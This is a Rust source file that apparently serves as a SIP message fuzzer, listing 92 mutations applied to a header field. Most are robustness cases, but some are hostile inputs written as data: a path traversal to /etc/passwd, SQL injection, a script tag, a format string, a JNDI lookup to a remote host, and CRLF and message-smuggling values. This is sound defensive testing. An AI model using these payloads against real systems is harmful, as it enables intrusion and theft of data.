//! What may be wrong with a field. Each works on any.
use crate::marks::Place;

type Spoil = fn(Place<'_>) -> Vec<u8>;

/// Puts something in the field's place.
fn put(place: Place<'_>, text: impl AsRef<[u8]>) -> Vec<u8> {
    [
        place.before.as_bytes(),
        text.as_ref(),
        place.after.as_bytes(),
    ]
    .concat()
}

/// Puts something before, and something behind what is there.
fn around(place: Place<'_>, before: impl AsRef<[u8]>, after: impl AsRef<[u8]>) -> Vec<u8> {
    let text = [before.as_ref(), place.field.as_bytes(), after.as_ref()].concat();
    put(place, text)
}

/// Puts something into the middle.
fn within(place: Place<'_>, text: impl AsRef<[u8]>) -> Vec<u8> {
    let mut middle = place.field.len() / 2;
    while !place.field.is_char_boundary(middle) {
        middle -= 1;
    }
    let (left, right) = place.field.split_at(middle);
    let text = [left.as_bytes(), text.as_ref(), right.as_bytes()].concat();
    put(place, text)
}

/// The lines before that of the field, the line itself, the lines behind it; each with its end.
fn lines<'a>(place: &Place<'a>) -> (&'a str, String, &'a str) {
    let from = place.before.rfind("\r\n").map_or(0, |at| at + 2);
    let to = place
        .after
        .find("\r\n")
        .map_or(place.after.len(), |at| at + 2);
    let line = [&place.before[from..], place.field, &place.after[..to]].concat();
    (&place.before[..from], line, &place.after[to..])
}

/// All of them, each with its name.
pub(crate) const SPOILS: [(&str, Spoil); 92] = [
    // Nothing, or too much of it.
    ("empty", |it| put(it, "")),
    ("a letter", |it| put(it, "x")),
    ("half", |it| {
        let half: String = it
            .field
            .chars()
            .take(it.field.chars().count() / 2)
            .collect();
        put(it, half)
    }),
    ("twice", |it| {
        let twice = it.field.repeat(2);
        put(it, twice)
    }),
    ("twice with a comma", |it| {
        let twice = [it.field, it.field].join(",");
        put(it, twice)
    }),
    ("sixty-four times", |it| {
        let many = vec![it.field; 64].join(",");
        put(it, many)
    }),
    ("a hundred letters", |it| put(it, "a".repeat(100))),
    ("a thousand letters", |it| put(it, "a".repeat(1_000))),
    ("nine thousand letters", |it| put(it, "a".repeat(9_000))),
    ("sixty thousand letters", |it| put(it, "a".repeat(60_000))),
    ("a hundred parameters", |it| {
        around(it, "", ";a=b".repeat(100))
    }),
    ("a hundred addresses", |it| {
        around(it, "", ",<sip:a@b>".repeat(100))
    }),
    ("a thousand brackets", |it| put(it, "<".repeat(1_000))),
    ("a thousand quotes", |it| put(it, "\"".repeat(999))),
    ("a thousand backslashes", |it| put(it, "\\".repeat(1_000))),
    // White space.
    ("space before", |it| around(it, " ", "")),
    ("space behind", |it| around(it, "", " ")),
    ("space within", |it| within(it, " ")),
    ("tab within", |it| within(it, "\t")),
    ("folded before", |it| around(it, "\r\n ", "")),
    ("folded within", |it| within(it, "\r\n\t")),
    ("a thousand spaces", |it| around(it, " ".repeat(1_000), "")),
    // Ends of lines and of the head.
    ("lone CR", |it| within(it, "\r")),
    ("lone LF", |it| within(it, "\n")),
    ("line end", |it| within(it, "\r\n")),
    ("end of the head", |it| within(it, "\r\n\r\n")),
    ("another length", |it| {
        around(it, "", "\r\nContent-Length: 0")
    }),
    ("another Via", |it| {
        around(it, "", "\r\nVia: SIP/2.0/UDP 203.0.113.1;branch=z9hG4bKx")
    }),
    ("another message", |it| {
        around(it, "", "\r\n\r\nBYE sip:a@b SIP/2.0\r\nCall-ID: x\r\n\r\n")
    }),
    ("encoded line end", |it| within(it, "%0d%0aX-Y: z%0d%0a")),
    // Bytes that are no text.
    ("null", |it| within(it, [0])),
    ("null behind", |it| around(it, "", [0])),
    ("bell", |it| within(it, [7])),
    ("escape", |it| within(it, "\u{1b}[31m")),
    ("delete", |it| within(it, [0x7f])),
    ("byte 255", |it| within(it, [0xff])),
    ("broken UTF-8", |it| within(it, [0xc3, 0x28])),
    ("overlong UTF-8", |it| within(it, [0xc0, 0xaf])),
    ("half a surrogate", |it| within(it, [0xed, 0xa0, 0x80])),
    ("CP1251", |it| {
        within(it, [0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2])
    }),
    ("byte order mark", |it| around(it, "\u{feff}", "")),
    ("right to left", |it| within(it, "\u{202e}")),
    ("emoji", |it| within(it, "\u{1f4a5}")),
    ("Cyrillic", |it| put(it, "Привет")),
    // Signs that mean something.
    ("open quote", |it| around(it, "\"", "")),
    ("quote behind", |it| around(it, "", "\"")),
    ("backslash behind", |it| around(it, "", "\\")),
    ("open bracket", |it| around(it, "<", "")),
    ("close bracket", |it| around(it, "", ">")),
    ("brackets around", |it| around(it, "<", ">")),
    ("empty brackets", |it| put(it, "<>")),
    ("square bracket", |it| around(it, "[", "")),
    ("semicolon", |it| around(it, "", ";")),
    ("two semicolons", |it| around(it, "", ";;")),
    ("comma", |it| around(it, "", ",")),
    ("commas alone", |it| put(it, ",,,")),
    ("colon", |it| within(it, ":")),
    ("equals sign", |it| around(it, "", "=")),
    ("at sign", |it| within(it, "@")),
    ("two at signs", |it| around(it, "", "@@")),
    ("headers of a URI", |it| {
        around(it, "", "?Route=%3Csip:x%3E")
    }),
    ("star", |it| put(it, "*")),
    ("percent", |it| around(it, "", "%")),
    ("percent zero", |it| within(it, "%00")),
    ("percent and no digits", |it| within(it, "%zz")),
    // For whoever reads it later.
    ("format string", |it| put(it, "%s%n%x%s%n")),
    ("path", |it| put(it, "../../../../etc/passwd")),
    ("query", |it| put(it, "' OR 1=1;--")),
    ("script", |it| put(it, "<script>alert(1)</script>")),
    ("lookup", |it| put(it, "${jndi:ldap://203.0.113.1/a}")),
    // Numbers.
    ("zero", |it| put(it, "0")),
    ("minus one", |it| put(it, "-1")),
    ("plus one", |it| put(it, "+1")),
    ("256", |it| put(it, "256")),
    ("65536", |it| put(it, "65536")),
    ("2^31", |it| put(it, "2147483648")),
    ("2^32 - 1", |it| put(it, "4294967295")),
    ("2^32", |it| put(it, "4294967296")),
    ("2^64", |it| put(it, "18446744073709551616")),
    ("a power", |it| put(it, "1e9")),
    ("hexadecimal", |it| put(it, "0x41")),
    ("leading zeros", |it| put(it, "00000000000000000001")),
    // Addresses.
    ("loopback", |it| put(it, "127.0.0.1")),
    ("no address", |it| put(it, "0.0.0.0")),
    ("everybody", |it| put(it, "255.255.255.255")),
    ("our own address", |it| put(it, "192.0.2.1:5060")),
    ("IPv6 with a zone", |it| put(it, "[fe80::1%25eth0]")),
    ("no IPv4", |it| put(it, "256.1.1.1")),
    // The line and the message around.
    ("other case", |it| {
        let other = |c: char| match c.is_ascii_uppercase() {
            true => c.to_ascii_lowercase(),
            false => c.to_ascii_uppercase(),
        };
        let text: String = it.field.chars().map(other).collect();
        put(it, text)
    }),
    ("line left out", |it| {
        let (before, _, after) = lines(&it);
        [before, after].concat().into_bytes()
    }),
    ("line twice", |it| {
        let (before, line, after) = lines(&it);
        [before, &line, &line, after].concat().into_bytes()
    }),
    ("cut off", |it| [it.before, it.field].concat().into_bytes()),
];
